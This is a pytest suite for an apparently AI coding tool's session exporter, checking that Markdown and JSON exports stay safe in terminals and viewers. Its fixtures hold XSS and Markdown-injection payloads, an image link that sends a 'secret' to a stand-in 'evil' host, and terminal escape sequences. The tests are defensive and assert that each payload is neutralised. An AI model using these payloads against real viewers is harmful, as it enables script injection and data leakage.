"""A session as Markdown and JSON: complete, and safe to open in a terminal or a viewer."""

from __future__ import annotations

import json
import random
from typing import Any

import msgspec
import pytest
from markdown_it import MarkdownIt

from lyra.core.message import Message
from lyra.core.secrets.secret import Secret
from lyra.core.tool import ToolCall, ToolResult
from lyra.sage.session.export import to_json, to_markdown
from lyra.sage.session.record import SessionRecord
from tests.cases import cases, each

RECORD = SessionRecord(
    id="20261117-ab12cd",
    folder="/home/ada/shop_*x*",
    title="Fix the cart",
    model="mock/a",
    created_at=1_794_916_800.0,
    updated_at=1_794_916_900.0,
    turns=2,
    cost_usd=0.0125,
    parent="20261116-000000",
)
KEY = "sk-" + "a1b2c3d4" * 4
IMAGE = {"type": "image", "media_type": "image/png", "data": "QUJD" * 100}


def conversation(answer: str = "Done: `x < y`.", output: object = "ok\n", prompt: str = "fix it") -> list[Message]:
    call = ToolCall("c1", "Bash", {"command": "make test", "timeout": 5})
    return [
        Message("system", "be good"),
        Message("user", prompt),
        Message("assistant", ({"type": "thinking", "text": "hm"}, {"type": "text", "text": "I look."}), (call,)),
        Message("tool", tool_results=(ToolResult("c1", "Bash", output),), trust="untrusted"),
        Message("assistant", answer),
        Message("user", ({"type": "text", "text": "and this?"}, IMAGE)),
        Message("assistant", "Yes.", (ToolCall("c2", "Read", {"path": "a.py"}),)),
    ]


def tokens(text: str) -> list[Any]:
    flat = []
    for token in MarkdownIt("commonmark", {"html": True}).parse(text):
        flat += [token, *(token.children or [])]
    return flat


def test_the_whole_conversation_in_order():
    """Title, facts, turns with prompts, answers, thoughts and calls with arguments and output."""
    text = to_markdown(RECORD, conversation())
    parts = [
        "# Fix the cart",
        "- Session: 20261117-ab12cd",
        r"- Folder: /home/ada/shop\_\*x\*",
        "- Began: 2026-11-17 12:00 UTC",
        "- Turns: 2",
        "- Cost: $0.0125",
        "- Forked from: 20261116-000000",
        "## Turn 1",
        "```\nfix it\n```",
        "<summary>Thoughts</summary>",
        "I look.",
        "<summary>Bash make test</summary>",
        '"timeout": 5',
        "```\nok\n```",
        "Done: `x < y`.",
        "## Turn 2",
        "and this?",
        "*(an image, image/png)*",
        "<summary>Read a.py</summary>",
        "*(no result)*",
    ]
    positions = [text.index(part) for part in parts]
    assert positions == sorted(positions)
    assert "be good" not in text
    assert text.count("<details>") == text.count("</details>") == 3
    assert "Cost: ?" in to_markdown(msgspec.structs.replace(RECORD, cost_usd=None), [])
    failed = [
        Message("assistant", "", (ToolCall("c", "Bash", {}),)),
        Message("tool", tool_results=(ToolResult("c", "Bash", "no", True),)),
    ]
    assert "<summary>Bash (failed)</summary>" in to_markdown(RECORD, failed)


def test_output_cannot_leave_its_fence():
    """The fence is longer than any in the text."""
    output = "```\n</details>\n# Heading\n`````\n<script>x</script>"
    text = to_markdown(RECORD, conversation(output=output, prompt="```\n# not a heading"))
    assert f"``````\n{output}\n``````" in text
    headings = [
        token.content
        for token in tokens(text)
        if token.type == "inline" and token.level == 1 and "eading" in token.content
    ]
    assert headings == []
    html = [token.content for token in tokens(text) if token.type.startswith("html")]
    assert not any("script" in block for block in html)


ATTACKS = [
    "<script>alert(1)</script>",
    "text <img src=x onerror=y>",
    "![x](http://evil/?q=secret)",
    "![x][y]\n\n[y]: http://evil",
    "`\n` <script> `",
    "- `\n- <script> `",
    r"\` <script> `",
    r"\<script>",
    r"\\<script>",
    "- ```\n  ```\n<script>\n```",
    "   ```\n```\n<script>\n```",
    "   ```\n<script>\n",
    "```\ncode\n   ```\n<script>",
    "~~~\n```\n~~~\n<script>",
    "``` a`b\n<script>\n```",
    "> ```\n<script>",
    "<!-- x",
    "<?php",
    "<![CDATA[",
    "</details>",
    "<a\nhref=x>",
    "`<b>` <b> ``<b>`` `` ` <b> ` ``",
    "```\nnever closed <script>",
    "    ```\n<script>",
    "1. x\n   ```\n   <i>\n```\n<script>",
]


@pytest.mark.parametrize("answer", ATTACKS)
def test_an_answer_brings_no_html_and_loads_no_image(answer):
    """A viewer that renders HTML finds only the folds that the export makes."""
    check_harmless(to_markdown(RECORD, conversation(answer)))


def check_harmless(text: str) -> None:
    kinds = tokens(text)
    assert not [token for token in kinds if token.type in ("image", "html_inline")]
    html = [line for token in kinds if token.type == "html_block" for line in token.content.splitlines()]
    assert all(line in ("<details>", "</details>") or line.startswith("<summary>") for line in html)
    assert html.count("<details>") == html.count("</details>") == 3
    assert [token.map for token in kinds if token.type == "heading_open" and token.tag == "h2"][-1] is not None


@each(range(cases(400)))
def test_random_answers_are_harmless(seed):
    rng = random.Random(seed)
    pieces = [
        "`",
        "``",
        "```",
        "~~~",
        "\n",
        "\n\n",
        "    ",
        "  ",
        "- ",
        "> ",
        "1. ",
        "<b>",
        "<script>",
        "</details>",
        "![a](b)",
        "\\",
        "x",
        "<!--",
        "-->",
        "\t",
        "[a]: b",
        "|",
        "***",
        "<a href='`'>",
    ]
    answer = "".join(rng.choice(pieces) for _ in range(rng.randrange(1, 25)))
    check_harmless(to_markdown(RECORD, conversation(answer)))


def test_escape_sequences_are_visible():
    """In prompts, answers, arguments, output, titles and names of files."""
    bad = "a\x1b]0;x\x07\u202eb\x9b31m\r"
    record = msgspec.structs.replace(RECORD, title=bad, folder=bad)
    messages = [*conversation(bad, bad, bad), Message("assistant", "", (ToolCall("c3", "Bash", {bad: [bad]}),))]
    for text in (to_markdown(record, messages), to_json(record, messages)):
        assert not set(text) & set("\x1b\x07\u202e\x9b\r")
        assert "⟨U+001B⟩" in text
    assert "line one\nline\ttwo" in to_markdown(record, conversation("line one\r\nline\ttwo"))


def test_keys_are_redacted():
    """Those in the form of a key, those that the caller knows, and fields with the name of a key."""
    secret = "correct horse battery staple"
    messages = [
        *conversation(f"it is {KEY}", {"text": f"{KEY} {secret}", "password": "hunter2hunter2"}, f"use {secret}"),
        Message("assistant", "", (ToolCall("c3", "Bash", {"command": f"curl -H {KEY}", "api_key": "plainvalue"}),)),
    ]
    for text in (to_markdown(RECORD, messages, secrets=[Secret(secret)]), to_json(RECORD, messages, secrets=[secret])):
        for part in ("a1b2c3d4", "horse", "hunter2", "plainvalue"):
            assert part not in text


def test_json_has_every_message():
    """In the form of `Message.to_data`, with the record; bytes of images are left out, surrogates do not fail."""
    messages = [*conversation(), Message("user", "bad \udc80")]
    data = json.loads(to_json(RECORD, messages))
    assert data["format"] == "lyra.session/1"
    assert data["session"]["title"] == "Fix the cart"
    assert [message["role"] for message in data["messages"]] == [message.role for message in messages]
    assert data["messages"][2]["tool_calls"][0]["arguments"] == {"command": "make test", "timeout": 5}
    assert data["messages"][3]["tool_results"][0]["output"] == "ok\n"
    assert data["messages"][5]["content"][1]["data"] == "400 characters left out"
    assert "QUJD" not in to_json(RECORD, messages) + to_markdown(RECORD, messages)
